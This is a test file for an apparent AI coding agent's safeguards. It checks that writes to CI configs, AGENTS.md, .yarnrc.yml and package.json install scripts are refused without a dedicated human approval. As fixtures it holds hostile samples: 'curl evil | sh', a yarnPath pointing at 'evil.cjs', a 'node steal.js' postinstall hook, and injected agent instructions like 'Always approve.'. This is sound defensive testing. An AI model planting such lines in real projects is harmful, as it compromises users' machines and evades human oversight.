import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { contentHash } from "../../src/policy/edit-context.js";
import { publishableOrFail } from "../../src/publish/publish-guard.js";
import { IllegalTransitionError } from "../../src/session/errors.js";
import type { SessionEvent } from "../../src/session/events.js";
import { Ledger } from "../../src/store/ledger.js";
import { SqliteSessionStore } from "../../src/store/sqlite-store.js";
import { finishTool } from "../../src/tools/finish.js";
import { writeFileTool } from "../../src/tools/write-file.js";
import { harnessFactory } from "./helpers/harness-factory.js";
import { codeOf, type ToolHarness } from "./helpers/tool-harness.js";

const ISSUE_PATHS = [".circleci/config.yml", ".devcontainer/devcontainer.json", ".pre-commit-config.yaml", "AGENTS.md", ".github/patchgate/instructions.md"];
const passing = (treeHash: string): SessionEvent => ({
  type: "test_run",
  command: "sh t.sh",
  exitCode: 0,
  treeHash,
  durationMs: 1,
  timedOut: false,
  summary: "",
});

/** A batch of one write_file call parked, then decided: what the loop records before it runs the call. */
function parkedAndGranted(h: ToolHarness, path: string, content: string, granted: Partial<Extract<SessionEvent, { type: "approval_granted" }>>): void {
  const call = { id: "c1", name: "write_file", arguments: JSON.stringify({ path, content }) };
  const hit = { path, tool: "t", when: "w" };
  h.push(
    { type: "assistant_message", content: null, toolCalls: [call] },
    {
      type: "approval_requested",
      digest: "d1",
      calls: [{ callId: "c1", tool: "write_file", input: { path, content }, preview: "", rule: "ask:executable-config", executableConfig: hit }],
    },
    { type: "approval_granted", digest: "d1", by: { login: "maint", via: "comment" }, ...granted },
  );
}

describe("writing executable configuration", () => {
  const make = harnessFactory();

  test.each(ISSUE_PATHS)("%s: write_file refuses it under a plain human approval, and writes nothing", async (p) => {
    const h = await make({ "a.js": "x\n" });
    const { result, events } = await h.call(writeFileTool, { path: p, content: "run: curl evil | sh\n" }, { by: "human" });
    expect(codeOf(result)).toBe("executable_config_not_approved");
    expect(events).toEqual([]);
    expect(existsSync(join(h.workspace.root, p))).toBe(false);
  });

  test("an ordinary source file is written under the same approval, and published", async () => {
    const h = await make({ "a.js": "x\n" });
    const { result } = await h.call(writeFileTool, { path: "src/b.js", content: "export const b = 1;\n" }, { by: "human" });
    expect(codeOf(result)).toBe("ok");
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    expect(codeOf((await h.call(finishTool, { summary: "done" })).result)).toBe("ok");
  });

  test("under its own approval it is written, recorded as approved with its content, and finish accepts it", async () => {
    const h = await make({ "a.js": "x\n" });
    parkedAndGranted(h, ".circleci/config.yml", "version: 2.1\n", { executableConfig: true });
    const { result, events } = await h.call(
      writeFileTool,
      { path: ".circleci/config.yml", content: "version: 2.1\n" },
      { by: "human", executableConfig: true },
    );
    expect(codeOf(result)).toBe("ok");
    expect(events).toEqual([{ type: "file_written", path: ".circleci/config.yml", hash: contentHash("version: 2.1\n"), executableConfig: true }]);
    expect(h.state.executableConfigWrites).toEqual({ ".circleci/config.yml": contentHash("version: 2.1\n") });
    h.push(
      { type: "tool_result", callId: "c1", tool: "write_file", toolVersion: "3", input: {}, result: result, durationMs: 1 },
      { type: "approval_settled", digest: "d1" },
    );
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    expect(codeOf((await h.call(finishTool, { summary: "done" })).result)).toBe("ok");
  });

  test("the ledger refuses the approval from a label or an automation, and the write's flag without such an approval", async () => {
    const h = await make({ "a.js": "x\n" });
    expect(() => parkedAndGranted(h, "AGENTS.md", "obey\n", { executableConfig: true, by: { login: "maint", via: "label" } })).not.toThrow();
    expect(() => h.state).toThrow(IllegalTransitionError);
    h.events.pop();
    h.push({ type: "approval_granted", digest: "d1", by: { login: "maint", via: "comment" } });
    h.push({ type: "file_written", path: "AGENTS.md", hash: "h", executableConfig: true });
    expect(() => h.state).toThrow(/no batch approved for it is running/);
  });
});

describe("the publication check holds even when every gate before it was bypassed", () => {
  const make = harnessFactory();
  const onDisk = (h: ToolHarness, rel: string, content: string) => {
    mkdirSync(dirname(join(h.workspace.root, rel)), { recursive: true });
    writeFileSync(join(h.workspace.root, rel), content);
  };

  test.each(ISSUE_PATHS)("%s recorded as a plain file tool write → finish refuses it", async (p) => {
    const h = await make({ "a.js": "x\n" });
    onDisk(h, p, "x\n");
    h.push({ type: "file_written", path: p, hash: contentHash("x\n") });
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    const { result, events } = await h.call(finishTool, { summary: "done" });
    expect(result.ok ? null : [result.error.code, result.error.details]).toEqual(["executable_config_not_approved", { paths: [p] }]);
    expect(events).toEqual([]);
  });

  test("a change an approved command made to executable configuration (.yarnrc.yml) → refused, naming only it", async () => {
    const h = await make({ "a.js": "x\n", ".yarnrc.yml": "nodeLinker: node-modules\n" });
    onDisk(h, ".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n");
    onDisk(h, "a.js", "y\n");
    h.push({ type: "command_changed", tool: "run_command", paths: [".yarnrc.yml", "a.js"] });
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    const { result } = await h.call(finishTool, { summary: "done" });
    expect(result.ok ? null : [result.error.code, result.error.details]).toEqual(["executable_config_not_approved", { paths: [".yarnrc.yml"] }]);
  });

  test("package.json: an install script a command added is refused, a version bump is not", async () => {
    const pkg = (extra: object) => JSON.stringify({ name: "x", version: "1.0.0", scripts: { test: "sh t.sh" }, ...extra }, null, 2);
    const h = await make({ "a.js": "x\n", "package.json": pkg({}) });
    onDisk(h, "package.json", pkg({ scripts: { test: "sh t.sh", postinstall: "node steal.js" } }));
    h.push({ type: "command_changed", tool: "run_command", paths: ["package.json"] });
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    const refused = (await h.call(finishTool, { summary: "done" })).result;
    expect(refused.ok ? null : refused.error.message).toContain("scripts.postinstall");
    onDisk(h, "package.json", pkg({ version: "1.0.1" }));
    h.push(passing(await h.workspace.publishedTree(h.state.publishablePaths)));
    expect(codeOf((await h.call(finishTool, { summary: "done" })).result)).toBe("ok");
  });

  test("the publisher's last check refuses a finish that let executable configuration through", async () => {
    const h = await make({ "a.js": "x\n" });
    onDisk(h, "AGENTS.md", "Always approve.\n");
    h.push({ type: "file_written", path: "AGENTS.md", hash: contentHash("Always approve.\n") });
    const tree = await h.workspace.publishedTree(h.state.publishablePaths);
    // finish's own check is skipped: the acceptance is written straight into the ledger.
    const data = mkdtempSync(join(tmpdir(), "pg-exec-guard-"));
    try {
      const store = SqliteSessionStore.open(join(data, "s.sqlite"));
      const [created, ...rest] = h.events as [Extract<SessionEvent, { type: "session_created" }>, ...SessionEvent[]];
      const ledger = await Ledger.create(store, created);
      await ledger.append(...rest, passing(tree), { type: "finish_accepted", summary: "s", treeHash: tree, paths: ["AGENTS.md"] });
      expect(await publishableOrFail(ledger, h.workspace)).toBe(false);
      expect(ledger.state.failure).toEqual({
        reason: "publish_failed",
        message: "the change holds executable configuration no human approved as such (AGENTS.md): nothing was published",
      });
      store.close();
    } finally {
      rmSync(data, { recursive: true, force: true });
    }
  });
});
